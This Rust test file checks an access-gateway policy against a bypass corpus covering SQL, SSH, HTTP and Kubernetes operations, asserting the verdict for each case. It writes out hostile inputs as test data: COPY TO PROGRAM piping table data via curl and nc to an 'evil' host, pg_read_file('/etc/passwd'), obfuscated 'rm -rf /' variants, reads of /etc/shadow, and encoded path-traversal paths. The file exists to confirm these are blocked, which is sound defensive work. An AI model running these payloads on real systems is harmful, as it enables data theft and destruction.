//! The bypass corpus: each case is an attempt to get something past the corpus policy (or a
//! legitimate request that must still pass), with the verdict and deciding rule asserted.

use gatehouse_core::{
    AuthMethod, ExecCommand, HttpOperation, Identity, KubeOperation, Operation, Policy, Protocol,
    SqlOperation, SqlProtocol, SqlSessionSettings, SshOperation, Target, Verdict,
};
use gatehouse_policy::CompiledPolicy;

use Verdict::{Allow, Deny, Review};

pub(crate) fn corpus_policy() -> CompiledPolicy {
    CompiledPolicy::from_toml(include_str!("corpus.policy.toml"), "corpus.policy.toml")
        .expect("corpus policy compiles")
}

fn analyst() -> Identity {
    Identity::new("ann", "https://idp.example", AuthMethod::Test).with_group("analysts")
}

fn app() -> Identity {
    Identity::new("svc-shop", "gatehouse", AuthMethod::ApiKey).with_group("app")
}

fn ops() -> Identity {
    Identity::new("olga", "https://idp.example", AuthMethod::Test).with_group("ops")
}

fn shop() -> Target {
    Target::new("shop", Protocol::Postgres).with_tag("prod")
}

fn sql(text: &str) -> Operation {
    Operation::Sql(SqlOperation::simple(text))
}

fn sql_scs_off(text: &str) -> Operation {
    Operation::Sql(SqlOperation {
        text: text.into(),
        parameters: Vec::new(),
        protocol: SqlProtocol::Simple,
        settings: SqlSessionSettings {
            standard_conforming_strings: false,
            ..SqlSessionSettings::default()
        },
    })
}

fn exec(line: &str) -> Operation {
    Operation::Ssh(SshOperation::Exec(ExecCommand::parse(line)))
}

/// An HTTP request as the HTTP proxy hands it over: raw path canonicalised first.
fn http(method: &str, raw_path: &str) -> Operation {
    let path = match gatehouse_core::http_path::canonicalize(raw_path) {
        Ok(c) => c.path,
        // The proxy would refuse; hand the raw path over to check the policy refuses too.
        Err(_) => raw_path.to_string(),
    };
    Operation::Http(HttpOperation {
        method: method.to_string(),
        path,
        query: None,
        body_sha256: None,
    })
}

fn kube(
    verb: &str,
    resource: &str,
    sub: Option<&str>,
    ns: Option<&str>,
    cmd: Option<&str>,
) -> Operation {
    Operation::Kubernetes(KubeOperation {
        verb: verb.into(),
        group: String::new(),
        version: "v1".into(),
        resource: resource.into(),
        subresource: sub.map(Into::into),
        namespace: ns.map(Into::into),
        name: Some("web-0".into()),
        path: None,
        command: cmd.map(ExecCommand::parse),
    })
}

struct Case {
    name: &'static str,
    who: Identity,
    target: Target,
    op: Operation,
    verdict: Verdict,
    rule: &'static str,
}

fn case(
    name: &'static str,
    who: Identity,
    target: Target,
    op: Operation,
    verdict: Verdict,
    rule: &'static str,
) -> Case {
    Case {
        name,
        who,
        target,
        op,
        verdict,
        rule,
    }
}

fn cases() -> Vec<Case> {
    let a = analyst;
    let s = shop;
    let dev = || Target::new("dev-shop", Protocol::Postgres);
    let web = || Target::new("web1", Protocol::Ssh);
    let api = || Target::new("api", Protocol::Http);
    let k8s = || Target::new("cluster", Protocol::Kubernetes);
    vec![
        // ---- SQL: the baseline passes ----
        case(
            "plain read",
            a(),
            s(),
            sql("SELECT * FROM orders"),
            Allow,
            "read",
        ),
        case("constant", a(), s(), sql("SELECT 1"), Allow, "read"),
        case(
            "empty query",
            a(),
            s(),
            sql(" ;; -- nothing\n"),
            Allow,
            "empty-query",
        ),
        case(
            "case folding of unquoted names",
            a(),
            s(),
            sql("select * from ORDERS"),
            Allow,
            "read",
        ),
        case(
            "quoted lower-case name",
            a(),
            s(),
            sql("SELECT * FROM \"orders\""),
            Allow,
            "read",
        ),
        case(
            "quoted upper-case is another table",
            a(),
            s(),
            sql("SELECT * FROM \"ORDERS\""),
            Deny,
            "default",
        ),
        case(
            "comment hides nothing",
            a(),
            s(),
            sql("SELECT * FROM orders WHERE id = 1 /* ; DROP TABLE orders */"),
            Allow,
            "read",
        ),
        // ---- SQL: case, comments, quoting ----
        case(
            "denied table",
            a(),
            s(),
            sql("SELECT * FROM secrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "mixed case",
            a(),
            s(),
            sql("sElEcT * fRoM SeCrEtS"),
            Deny,
            "no-secrets",
        ),
        case(
            "schema-qualified",
            a(),
            s(),
            sql("SELECT * FROM public.secrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "catalog-qualified",
            a(),
            s(),
            sql("SELECT * FROM shopdb.public.secrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "quoted identifiers",
            a(),
            s(),
            sql("SELECT * FROM \"public\".\"secrets\""),
            Deny,
            "no-secrets",
        ),
        case(
            "comment as whitespace",
            a(),
            s(),
            sql("SELECT * FROM/**/secrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "nested comments",
            a(),
            s(),
            sql("SELECT * FROM /* a /* b */ c */ secrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "line comment then newline",
            a(),
            s(),
            sql("SELECT * FROM -- x\nsecrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "union",
            a(),
            s(),
            sql("SELECT id FROM orders UNION SELECT id FROM secrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "scalar subquery",
            a(),
            s(),
            sql("SELECT (SELECT password FROM secrets LIMIT 1)"),
            Deny,
            "no-secrets",
        ),
        case(
            "lateral join",
            a(),
            s(),
            sql("SELECT * FROM orders o JOIN LATERAL (SELECT * FROM secrets) x ON true"),
            Deny,
            "no-secrets",
        ),
        case(
            "CTE hides the table",
            a(),
            s(),
            sql("WITH o AS (SELECT * FROM secrets) SELECT * FROM o"),
            Deny,
            "no-secrets",
        ),
        case(
            "CTAS from a denied table",
            a(),
            s(),
            sql("CREATE TABLE x AS SELECT * FROM secrets"),
            Deny,
            "no-secrets",
        ),
        // ---- SQL: functions ----
        case(
            "file read",
            a(),
            s(),
            sql("SELECT pg_read_file('/etc/passwd')"),
            Deny,
            "no-server-file-access",
        ),
        case(
            "qualified upper-case function",
            a(),
            s(),
            sql("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')"),
            Deny,
            "no-server-file-access",
        ),
        case(
            "table function",
            a(),
            s(),
            sql("SELECT * FROM pg_read_file('/etc/passwd')"),
            Deny,
            "no-server-file-access",
        ),
        case(
            "quoted function name",
            a(),
            s(),
            sql("SELECT \"pg_read_file\"('/etc/passwd')"),
            Deny,
            "no-server-file-access",
        ),
        case(
            "function in a subquery",
            a(),
            s(),
            sql("SELECT * FROM orders WHERE id IN (SELECT lo_export(1, '/tmp/x'))"),
            Deny,
            "no-server-file-access",
        ),
        // ---- SQL: multi-statement ----
        case(
            "second statement",
            a(),
            s(),
            sql("SELECT * FROM orders; DROP TABLE orders"),
            Review,
            "review-ddl",
        ),
        case(
            "comment before the separator",
            a(),
            s(),
            sql("SELECT * FROM orders -- x\n; DROP TABLE orders"),
            Review,
            "review-ddl",
        ),
        case(
            "transaction wrapper",
            a(),
            s(),
            sql("BEGIN; DROP TABLE orders; COMMIT"),
            Review,
            "review-ddl",
        ),
        case(
            "denied wins over review",
            a(),
            s(),
            sql("DROP TABLE orders; SELECT * FROM secrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "bulk delete after a read",
            a(),
            s(),
            sql("SELECT * FROM orders;\nDELETE FROM orders"),
            Review,
            "review-bulk-writes",
        ),
        // ---- SQL: literals and dollar quoting ----
        case(
            "statement inside a literal",
            a(),
            s(),
            sql("SELECT 'x'';DROP TABLE orders;--'"),
            Allow,
            "read",
        ),
        case(
            "statement inside dollar quotes",
            a(),
            s(),
            sql("SELECT $$; DROP TABLE orders; $$"),
            Allow,
            "read",
        ),
        case(
            "tagged dollar quote with $$ inside",
            a(),
            s(),
            sql("SELECT $a$ $$ ; $a$ FROM secrets"),
            Deny,
            "no-secrets",
        ),
        case(
            "E-string escaped quote",
            a(),
            s(),
            sql("SELECT E'\\' ; DROP TABLE orders; --'"),
            Allow,
            "read",
        ),
        case(
            "scs=on: backslash is literal, DROP is real",
            a(),
            s(),
            sql("SELECT 'a\\' ; DROP TABLE orders; -- '"),
            Review,
            "review-ddl",
        ),
        case(
            "scs=off: backslash escapes, DROP is in the literal",
            a(),
            s(),
            sql_scs_off("SELECT 'a\\' ; DROP TABLE orders; -- '"),
            Allow,
            "read",
        ),
        case(
            "scs=off: the issue's example splits in two",
            a(),
            s(),
            sql_scs_off("SELECT 'a\\'' ; SELECT 'b'; -- '"),
            Allow,
            "read",
        ),
        case(
            "scs=off: hidden DROP after escaped quote",
            a(),
            s(),
            sql_scs_off("SELECT 'a\\'' ; DROP TABLE orders; -- '"),
            Review,
            "review-ddl",
        ),
        case(
            "scs=on: same text is one literal",
            a(),
            s(),
            sql("SELECT 'a\\'' ; DROP TABLE orders; -- '"),
            Allow,
            "read",
        ),
        case(
            "unterminated literal",
            a(),
            dev(),
            sql("SELECT 'abc"),
            Review,
            "opaque",
        ),
        case(
            "unparseable gets the opaque verdict on prod too",
            a(),
            s(),
            sql("SELECT 1 FROM orders WHERE a = (("),
            Review,
            "opaque",
        ),
        // ---- SQL: dangerous statement forms ----
        case(
            "DO block",
            a(),
            s(),
            sql("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$"),
            Deny,
            "no-code",
        ),
        case(
            "untrusted language",
            a(),
            s(),
            sql(
                "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; os.system('id') $$",
            ),
            Deny,
            "no-code",
        ),
        case(
            "COPY TO PROGRAM",
            a(),
            s(),
            sql("COPY orders TO PROGRAM 'curl -d @- https://evil'"),
            Deny,
            "copy-program",
        ),
        case(
            "COPY query TO PROGRAM, lower case",
            a(),
            s(),
            sql("copy (select * from orders) to program 'nc evil 80'"),
            Deny,
            "copy-program",
        ),
        case(
            "EXECUTE a prepared statement",
            a(),
            s(),
            sql("EXECUTE p(1)"),
            Deny,
            "no-code",
        ),
        case(
            "PREPARE a bulk delete",
            a(),
            s(),
            sql("PREPARE p AS DELETE FROM orders"),
            Review,
            "review-bulk-writes",
        ),
        case(
            "ALTER SYSTEM",
            a(),
            s(),
            sql("ALTER SYSTEM SET archive_command = 'curl evil'"),
            Deny,
            "no-alter-system",
        ),
        case(
            "SET ROLE",
            a(),
            s(),
            sql("SET ROLE postgres"),
            Deny,
            "no-code",
        ),
        case(
            "SET SESSION AUTHORIZATION",
            a(),
            s(),
            sql("SET SESSION AUTHORIZATION postgres"),
            Deny,
            "no-code",
        ),
        case(
            "set_config role",
            a(),
            s(),
            sql("SELECT set_config('role', 'postgres', false)"),
            Deny,
            "no-code",
        ),
        case(
            "writable CTE without WHERE",
            a(),
            s(),
            sql("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"),
            Review,
            "review-bulk-writes",
        ),
        case(
            "writable CTE is not a read",
            a(),
            s(),
            sql("WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d"),
            Deny,
            "default",
        ),
        case(
            "SELECT INTO",
            a(),
            s(),
            sql("SELECT * INTO stolen FROM orders"),
            Review,
            "review-ddl",
        ),
        case(
            "EXPLAIN ANALYZE runs the delete",
            a(),
            s(),
            sql("EXPLAIN ANALYZE DELETE FROM orders"),
            Review,
            "review-bulk-writes",
        ),
        case(
            "turn off standard_conforming_strings",
            a(),
            s(),
            sql("SET standard_conforming_strings = off"),
            Deny,
            "no-code",
        ),
        case(
            "switch to a backslash-unsafe encoding",
            a(),
            s(),
            sql("SET client_encoding = 'SJIS'"),
            Deny,
            "no-code",
        ),
        case(
            "set_config encoding",
            a(),
            s(),
            sql("SELECT set_config('standard_conforming_strings', 'off', false)"),
            Deny,
            "no-code",
        ),
        case("CALL", a(), s(), sql("CALL do_things()"), Deny, "no-code"),
        // ---- SQL: identity-dependent ----
        case(
            "app single-row delete",
            app(),
            s(),
            sql("DELETE FROM orders WHERE id = 1"),
            Allow,
            "app-writes",
        ),
        case(
            "app bulk delete",
            app(),
            s(),
            sql("DELETE FROM orders"),
            Review,
            "review-bulk-writes",
        ),
        case(
            "app update without WHERE",
            app(),
            s(),
            sql("UPDATE orders SET total = 0"),
            Review,
            "review-bulk-writes",
        ),
        case(
            "app truncate",
            app(),
            s(),
            sql("TRUNCATE orders"),
            Review,
            "review-ddl",
        ),
        case(
            "analyst may not delete",
            a(),
            s(),
            sql("DELETE FROM orders WHERE id = 1"),
            Deny,
            "default",
        ),
        case(
            "dev target default is review",
            a(),
            dev(),
            sql("LISTEN x"),
            Review,
            "default",
        ),
        // ---- shell ----
        case(
            "allowed command",
            ops(),
            web(),
            exec("ls -la /tmp"),
            Allow,
            "ops-inspect",
        ),
        case(
            "double space",
            ops(),
            web(),
            exec("rm  -rf /"),
            Deny,
            "no-rm",
        ),
        case(
            "empty quotes inside the word",
            ops(),
            web(),
            exec("r''m -rf /"),
            Deny,
            "no-rm",
        ),
        case(
            "backslash escape",
            ops(),
            web(),
            exec("\\rm -rf /"),
            Deny,
            "no-rm",
        ),
        case(
            "double-quoted program",
            ops(),
            web(),
            exec("\"rm\" -rf /"),
            Deny,
            "no-rm",
        ),
        case(
            "absolute path",
            ops(),
            web(),
            exec("/bin/rm -rf /"),
            Deny,
            "no-rm",
        ),
        case(
            "command substitution",
            ops(),
            web(),
            exec("$(echo rm) -rf /"),
            Review,
            "opaque",
        ),
        case(
            "backticks",
            ops(),
            web(),
            exec("`echo rm` -rf /"),
            Review,
            "opaque",
        ),
        case(
            "bash -c",
            ops(),
            web(),
            exec("bash -c \"rm -rf /\""),
            Deny,
            "no-rm",
        ),
        case(
            "nested sh -c",
            ops(),
            web(),
            exec("sh -c 'sh -c \"rm -rf /\"'"),
            Deny,
            "no-rm",
        ),
        case(
            "eval",
            ops(),
            web(),
            exec("eval rm -rf /"),
            Review,
            "opaque",
        ),
        case(
            "find -exec",
            ops(),
            web(),
            exec("find / -exec rm {} +"),
            Review,
            "opaque",
        ),
        case(
            "find without actions",
            ops(),
            web(),
            exec("find /var/log -name '*.log'"),
            Allow,
            "ops-find",
        ),
        case("; chain", ops(), web(), exec("ls; rm -rf /"), Deny, "no-rm"),
        case(
            "&& chain",
            ops(),
            web(),
            exec("ls && rm -rf /"),
            Deny,
            "no-rm",
        ),
        case(
            "| chain",
            ops(),
            web(),
            exec("ls | xargs rm"),
            Deny,
            "no-rm",
        ),
        case(
            "log read",
            ops(),
            web(),
            exec("cat /var/log/syslog"),
            Allow,
            "ops-logs",
        ),
        case(
            "log read with traversal",
            ops(),
            web(),
            exec("cat /var/log/../../etc/shadow"),
            Deny,
            "default",
        ),
        case(
            "other file",
            ops(),
            web(),
            exec("cat /etc/shadow"),
            Deny,
            "default",
        ),
        case(
            "environment assignment",
            ops(),
            web(),
            exec("LD_PRELOAD=/tmp/x.so ls"),
            Review,
            "opaque",
        ),
        case(
            "redirection",
            ops(),
            web(),
            exec("ls > /etc/passwd"),
            Review,
            "opaque",
        ),
        case(
            "wrapper program",
            ops(),
            web(),
            exec("busybox rm -rf /"),
            Deny,
            "no-rm",
        ),
        case(
            "allowed program by path is not allowed",
            ops(),
            web(),
            exec("/tmp/ls"),
            Review,
            "opaque",
        ),
        // ---- HTTP ----
        case(
            "api read",
            a(),
            api(),
            http("GET", "/api/users"),
            Allow,
            "api-read",
        ),
        case(
            "lower-case method",
            a(),
            api(),
            http("get", "/api/users"),
            Allow,
            "api-read",
        ),
        case(
            "dot-dot",
            a(),
            api(),
            http("GET", "/api/../admin"),
            Deny,
            "no-admin",
        ),
        case(
            "encoded dot-dot",
            a(),
            api(),
            http("GET", "/api/%2e%2e/admin"),
            Deny,
            "no-admin",
        ),
        case(
            "mixed encoded dot-dot",
            a(),
            api(),
            http("GET", "/api/.%2E/admin/users"),
            Deny,
            "no-admin",
        ),
        case(
            "double slash",
            a(),
            api(),
            http("GET", "//admin"),
            Deny,
            "no-admin",
        ),
        case(
            "encoded letter",
            a(),
            api(),
            http("GET", "/%61dmin"),
            Deny,
            "no-admin",
        ),
        case(
            "upper case",
            a(),
            api(),
            http("GET", "/ADMIN"),
            Deny,
            "no-admin",
        ),
        case(
            "mixed case below",
            a(),
            api(),
            http("GET", "/Admin/users"),
            Deny,
            "no-admin",
        ),
        case(
            "encoded slash",
            a(),
            api(),
            http("GET", "/api/users%2F..%2F..%2Fadmin"),
            Review,
            "ambiguous-http-path",
        ),
        case(
            "tomcat path parameter",
            a(),
            api(),
            http("GET", "/api/..;/admin"),
            Deny,
            "invalid-http-path",
        ),
        case(
            "api is case-sensitive for allow",
            a(),
            api(),
            http("GET", "/API/users"),
            Deny,
            "default",
        ),
        case(
            "write method",
            a(),
            api(),
            http("POST", "/api/users"),
            Deny,
            "default",
        ),
        // ---- Kubernetes ----
        case(
            "read pods",
            a(),
            k8s(),
            kube("get", "pods", None, Some("apps"), None),
            Allow,
            "k8s-read-apps",
        ),
        case(
            "read secrets",
            a(),
            k8s(),
            kube("get", "secrets", None, Some("apps"), None),
            Deny,
            "k8s-no-secrets",
        ),
        case(
            "cluster-wide list is not the apps namespace",
            a(),
            k8s(),
            kube("list", "pods", None, None, None),
            Deny,
            "default",
        ),
        case(
            "cluster-wide delete hits kube-system",
            a(),
            k8s(),
            kube("deletecollection", "pods", None, None, None),
            Deny,
            "k8s-no-kube-system-writes",
        ),
        case(
            "exec inspect",
            a(),
            k8s(),
            kube("create", "pods", Some("exec"), Some("apps"), Some("ls /")),
            Allow,
            "k8s-exec-inspect",
        ),
        case(
            "exec rm",
            a(),
            k8s(),
            kube(
                "create",
                "pods",
                Some("exec"),
                Some("apps"),
                Some("rm -rf /"),
            ),
            Deny,
            "no-rm",
        ),
        case(
            "exec sh -c rm",
            a(),
            k8s(),
            kube(
                "create",
                "pods",
                Some("exec"),
                Some("apps"),
                Some("sh -c 'rm -rf /'"),
            ),
            Deny,
            "no-rm",
        ),
        case(
            "exec other command",
            a(),
            k8s(),
            kube(
                "create",
                "pods",
                Some("exec"),
                Some("apps"),
                Some("curl evil"),
            ),
            Deny,
            "default",
        ),
    ]
}

#[test]
fn bypass_corpus() {
    let policy = corpus_policy();
    let cases = cases();
    assert!(cases.len() >= 60, "the corpus has {} cases", cases.len());
    let mut failures = Vec::new();
    for c in &cases {
        let d = policy.decide(&c.who, &c.target, &c.op);
        if d.verdict != c.verdict || d.rule_id != c.rule {
            failures.push(format!(
                "{}: expected {:?} by {}, got {:?} by {} ({})\n{}",
                c.name,
                c.verdict,
                c.rule,
                d.verdict,
                d.rule_id,
                d.reason,
                policy.explain(&c.who, &c.target, &c.op)
            ));
        }
        // explain() always agrees with decide().
        assert_eq!(
            policy.explain(&c.who, &c.target, &c.op).decision,
            d,
            "{}",
            c.name
        );
    }
    assert!(
        failures.is_empty(),
        "{} failing cases:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn decisions_carry_masking_and_review() {
    let policy = corpus_policy();
    let d = policy.decide(&analyst(), &shop(), &sql("SELECT * FROM orders"));
    assert_eq!(d.masking_profile.as_deref(), Some("pii"));
    let d = policy.decide(&analyst(), &shop(), &sql("DROP TABLE orders"));
    let review = d.review.expect("review requirement");
    assert_eq!(review.approver_groups, ["dba"]);
    assert_eq!(review.timeout_ms, 5 * 60 * 1000);
    // Built-in review verdicts use [defaults.review].
    let d = policy.decide(
        &ops(),
        &Target::new("dev-web1", Protocol::Ssh),
        &exec("ls | wc -l"),
    );
    assert_eq!(d.verdict, Review);
    assert_eq!(d.review.expect("review").timeout_ms, 10 * 60 * 1000);
    assert!(
        policy
            .decide(&analyst(), &shop(), &sql("SELECT * FROM secrets"))
            .masking_profile
            .is_none()
    );
}

#[test]
fn explain_names_every_rule() {
    let policy = corpus_policy();
    let e = policy.explain(
        &analyst(),
        &shop(),
        &sql("SELECT * FROM orders; DROP TABLE orders"),
    );
    assert_eq!(e.items.len(), 2);
    assert_eq!(e.items[0].decided_by, "read");
    assert_eq!(e.items[1].decided_by, "review-ddl");
    for item in &e.items {
        assert_eq!(item.trace.len(), policy.rule_count());
    }
    let read = e.items[0]
        .trace
        .iter()
        .find(|t| t.rule_id == "read")
        .unwrap();
    assert!(read.matched);
    let secrets = e.items[0]
        .trace
        .iter()
        .find(|t| t.rule_id == "no-secrets")
        .unwrap();
    assert!(!secrets.matched);
    assert_eq!(secrets.note, "sql tables");
    let text = e.to_string();
    assert!(text.contains("review-ddl"), "{text}");
    assert!(
        e.decision.reason.starts_with("part 2 of 2"),
        "{}",
        e.decision.reason
    );
}
